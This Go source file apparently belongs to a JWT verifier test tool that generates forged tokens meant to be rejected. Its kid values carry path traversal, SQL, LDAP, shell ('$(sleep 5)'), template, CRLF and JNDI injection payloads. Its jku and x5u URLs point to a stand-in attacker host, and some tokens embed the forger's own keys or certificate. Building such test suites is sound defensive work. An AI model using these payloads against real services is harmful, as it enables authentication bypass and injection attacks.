package forge

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"strings"
	"time"
)

// keyIDs carry a kid that is a path, a query or a command: whoever uses it as
// one picks a secret that the sender knows (T20 to T22).
func (f *forger) keyIDs() []Token {
	var tokens []Token
	for _, v := range []struct{ id, name, kid, secret string }{
		{"T20", "path-null", `"../../../../../../dev/null"`, ""},
		{"T20", "path-proc", `"/proc/sys/kernel/randomize_va_space"`, "2\n"},
		{"T20", "path-file-url", `"file:///dev/null"`, ""},
		{"T20", "path-nul", `"../../../../../../dev/null\u0000.pem"`, ""},
		{"T21", "sql-union", `"x' UNION SELECT 'k'-- "`, "k"},
		{"T21", "sql-or", `"x' OR '1'='1"`, ""},
		{"T21", "nosql", `{"$ne":null}`, ""},
		{"T21", "ldap", `"*)(objectClass=*"`, ""},
		{"T21", "list", `["` + f.valid.KeyID() + `"]`, ""},
		{"T21", "number", `0`, ""},
		{"T21", "null", `null`, ""},
		{"T22", "shell", `"x;sleep 5"`, ""},
		{"T22", "substitution", `"$(sleep 5)"`, ""},
		{"T22", "template", `"{{7*7}}"`, ""},
		{"T22", "crlf", `"x\r\nSet-Cookie: forged=1"`, ""},
		{"T22", "jndi", `"${jndi:ldap://attacker.invalid/x}"`, ""},
		{"T22", "long", quote(strings.Repeat("k", 4096)), ""},
		{"T22", "url", `"https://attacker.invalid/key"`, ""},
	} {
		header := object("alg", `"HS256"`, "kid", v.kid, "typ", f.kind())
		tokens = append(tokens, Token{
			ID: v.id, Name: "kid-" + v.name, Title: "HS256 with what its kid leads to: " + v.name, Want: wantKey,
			Raw: f.mac("HS256", header, f.payload(), []byte(v.secret)),
		})
	}
	return tokens
}

// embedded bring the key to check them with, or say where it lies.
func (f *forger) embedded() []Token {
	algorithm := f.foreignAlgorithm()
	var tokens []Token
	for _, location := range f.locations() {
		for _, p := range []struct{ id, member string }{{"T23", "jku"}, {"T24", "x5u"}} {
			tokens = append(tokens, Token{
				ID: p.id, Name: p.member + "-" + location.name, Title: p.member + " " + location.url, Want: wantKey + " Nothing may be fetched.",
				Raw: f.byOwn(f.header(algorithm, p.member, quote(location.url)), f.payload()),
			})
		}
	}
	jwk := string(f.marshal(f.own.Key()))
	fresh := object("alg", quote(algorithm), "kid", quote(f.own.Key().ID()), "typ", f.kind(), "jwk", jwk)
	chain := string(f.marshal([]string{f.certificate()}))
	return append(tokens,
		Token{ID: "T25", Name: "jwk-same-kid", Title: "the forger's key in the header, under the issuer's kid", Want: wantKey, Raw: f.byOwn(f.header(algorithm, "jwk", jwk), f.payload())},
		Token{ID: "T25", Name: "jwk-own-kid", Title: "the forger's key in the header, under its own kid", Want: wantKey, Raw: f.byOwn(fresh, f.payload())},
		Token{ID: "T25", Name: "jwk-symmetric", Title: "a secret in the header", Want: wantAlgorithm, Raw: f.mac("HS256", f.header("HS256", "jwk", `{"kty":"oct","k":"c2VjcmV0"}`), f.payload(), []byte("secret"))},
		Token{ID: "T26", Name: "x5c-self-signed", Title: "a certificate of the forger's in the header", Want: wantKey, Raw: f.byOwn(f.header(algorithm, "x5c", chain), f.payload())},
	)
}

type location struct{ name, url string }

// locations try to look like the issuer's. Names under .invalid never resolve
// (RFC 6761 §6.4).
func (f *forger) locations() []location {
	return []location{
		{"foreign", "https://attacker.invalid/jwks.json"},
		{"userinfo", f.Issuer + "@attacker.invalid/jwks.json"},
		{"suffix", f.Issuer + ".attacker.invalid/jwks.json"},
		{"fragment", "https://attacker.invalid/jwks.json#" + f.Issuer},
		{"scheme-relative", "//attacker.invalid/jwks.json"},
		{"traversal", f.Issuer + "/.well-known/../../uploads/jwks.json"},
		{"redirect", f.Issuer + "/oauth/authorize?redirect_uri=https://attacker.invalid/jwks.json"},
		{"loopback", "http://127.0.0.1:1/jwks.json"},
		{"file", "file:///dev/stdin"},
	}
}

// certificate is a self-signed one for the forger's key, as in x5c (RFC 7515 §4.1.6).
func (f *forger) certificate() string {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "forger"},
		NotBefore: f.Now.Add(-time.Hour), NotAfter: f.Now.Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, f.own.Private().Public(), f.own.Private())
	f.fail(err)
	return base64.StdEncoding.EncodeToString(der)
}
